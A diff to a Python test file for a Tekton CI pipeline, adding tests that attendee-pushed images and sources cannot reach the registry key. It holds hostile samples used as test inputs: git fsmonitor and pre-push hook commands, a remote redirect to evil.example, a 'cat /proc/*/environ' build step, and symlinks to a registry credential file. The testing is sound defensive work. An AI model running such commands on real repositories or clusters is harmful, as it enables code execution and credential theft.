@@ -1,6 +1,8 @@
 """The pods that Tekton creates for a run: each fits the SCC of its account, and its script runs."""
 
+import hashlib
 import os
+import shutil
 import subprocess
 from pathlib import Path
 from typing import Any
@@ -10,6 +12,8 @@ import yaml
 
 import brakepoint
 from brakepoint.delivery.rendering import named, of_kind, render
+from brakepoint.room.attendee_delivery import delivery_manifests
+from brakepoint.room.config import MinioSettings, Room
 
 ROOT = Path(__file__).parents[2]
 TEKTON = render(ROOT / "deploy" / "tekton")
@@ -83,10 +87,9 @@ def test_a_run_gives_every_parameter_that_has_no_default(run) -> None:
     assert wanted <= {place["name"] for place in run["spec"]["workspaces"]}
 
 
-def test_the_environment_of_the_tests_fits_the_workspace() -> None:
-    for run in RUNS:
-        (claim,) = (w["volumeClaimTemplate"] for w in run["spec"]["workspaces"] if "volumeClaimTemplate" in w)
-        assert int(claim["spec"]["resources"]["requests"]["storage"].removesuffix("Gi")) >= 10
+def test_the_environment_of_the_tests_fits_their_copy_of_the_sources() -> None:
+    (copy,) = TASKS["test"]["volumes"]
+    assert int(copy["emptyDir"]["sizeLimit"].removesuffix("Gi")) >= 8
 
 
 def test_the_first_images_are_those_that_the_overlays_name() -> None:
@@ -158,6 +161,7 @@ BUILD = {
     "STEPS": "labs",
     "MODEL": "m",
     "COMMIT": "c",
+    "DEFINITION": "",
 }
 PUSHES = 'case "$*" in *digestfile*) printf "sha256:1\\n" > pushed ;; esac'
 
@@ -216,6 +220,101 @@ def test_the_list_joins_what_was_built_and_gets_both_names(tmp_path: Path) -> No
     for tag in ("c", "0.1.0"):
         assert f"docker://registry.example.com/edge:{tag}" in said
     assert (tmp_path / "digest").read_text() == "sha256:1"
+
+
+def defined(folder: Path, containerfile: str) -> str:
+    """Puts an image's definition into the sources, and returns its hash."""
+    images = folder / "deploy" / "images"
+    (images / "locks").mkdir(parents=True, exist_ok=True)
+    content = {"Containerfile": containerfile, "ignore": "*", "locks/edge.txt": "numpy"}
+    for name, words in content.items():
+        (images / name).write_text(words)
+    return hashlib.sha256("".join(content.values()).encode()).hexdigest()
+
+
+@pytest.mark.parametrize("pushed", ["FROM kit", "FROM kit\nRUN cat /proc/*/environ"])
+def test_an_attendee_cannot_change_what_runs_as_root_beside_the_registrys_key(
+    pushed: str, tmp_path: Path
+) -> None:
+    expected = defined(tmp_path, "FROM kit")
+    defined(tmp_path, pushed)
+    tools = {"uname": "echo x86_64", "buildah": PUSHES}
+
+    done = run_script("build", tmp_path, tools, **BUILD | {"ARCH": "amd64", "DEFINITION": expected})
+
+    assert (done.returncode == 0) is (pushed == "FROM kit")
+    assert ("differ" in done.stderr) is (done.returncode != 0)
+    assert (tmp_path / ".docker").exists() is (done.returncode == 0)
+
+
+def test_the_definition_of_a_room_is_that_of_the_kits_own_sources(tmp_path: Path) -> None:
+    shutil.copytree(ROOT / "deploy", tmp_path / "deploy")
+    room = Room(
+        name="spring",
+        attendees=1,
+        handles=("anna",),
+        store=MinioSettings(kind="minio", endpoint="https://minio.example.org"),
+        repository="https://git.example.org/{handle}/brakepoint.git",
+    )
+    (trigger,) = (one for one in delivery_manifests(room, "anna") if one["kind"] == "Trigger")
+    given = {one["name"]: one["value"] for one in trigger["spec"]["bindings"]}
+    assert given.keys() <= {one["name"] for one in TEMPLATE["spec"]["params"]}
+    variables = BUILD | {"ARCH": "amd64", "DEFINITION": given["definition"]}
+
+    done = run_script("build", tmp_path, {"uname": "echo x86_64", "buildah": PUSHES}, **variables)
+
+    assert done.returncode == 0, done.stderr
+
+
+HOSTILE = """
+git config core.fsmonitor "touch $HOME/obeyed"
+git config url.https://evil.example/.insteadOf "$(git remote get-url origin)"
+printf '#!/bin/sh\ntouch $HOME/obeyed\n' > .git/hooks/pre-push
+echo changed > file
+"""
+
+
+def test_the_tests_of_a_push_reach_a_copy_and_nothing_that_a_later_task_uses(tmp_path: Path) -> None:
+    """On a cluster the kernel makes sure of it: the workspace is mounted read-only."""
+    source, copy = tmp_path / "source", tmp_path / "copy"
+    copy.mkdir()
+    git(tmp_path, "init", "--quiet", str(source))
+    git(source, "remote", "add", "origin", "https://git.example.org/a.git")
+    (source / "file").write_text("as pushed")
+    before = {path: path.read_bytes() for path in source.rglob("*") if path.is_file()}
+    task, (step,) = TASKS["test"], TASKS["test"]["steps"]
+    environment = {**os.environ, "SOURCE": str(source), "TESTS": HOSTILE, "HOME": str(tmp_path)}
+
+    subprocess.run(["sh", "-c", step["script"]], cwd=copy, env=environment, check=True)
+
+    assert (copy / "file").read_text() == "changed\n"
+    assert {path: path.read_bytes() for path in source.rglob("*") if path.is_file()} == before
+    assert task["workspaces"] == [{"name": "source", "readOnly": True}]
+    assert step["workingDir"] in {mount["mountPath"] for mount in step["volumeMounts"]}
+
+
+def test_a_link_or_a_list_of_contents_in_the_sources_reaches_no_later_task(tmp_path: Path) -> None:
+    """A link to the registry's key, named as a list of contents, would be signed and published."""
+    origin, source = tmp_path / "origin", tmp_path / "source"
+    git(tmp_path, "init", "--quiet", "--initial-branch", "main", str(origin))
+    (origin / "bom").mkdir()
+    for name in ("bom/1.cdx.json", "kustomization.yaml"):
+        (origin / name).symlink_to("/registry/.dockerconfigjson")
+    git(origin, "add", ".")
+    git(origin, "-c", "user.name=a", "-c", "user.email=a@localhost", "commit", "--quiet", "--message", "x")
+    script = TASKS["clone"]["steps"][0]["script"].replace("$(workspaces.git-credentials.bound)", "false")
+    script = script.replace("$(results.commit.path)", str(tmp_path / "commit"))
+    source.mkdir()
+    environment = {**os.environ, "URL": str(origin), "REVISION": "main", "HOME": str(tmp_path)}
+
+    subprocess.run(["sh", "-c", script], cwd=source, env=environment, check=True)
+
+    assert not [path for path in source.rglob("*") if path.is_symlink()]
+    assert not (source / "bom").exists()
+
+
+def git(folder: Path, *words: str) -> None:
+    subprocess.run(["git", *words], cwd=folder, check=True)
 
 
 def test_what_was_not_built_is_not_scanned(tmp_path: Path) -> None:
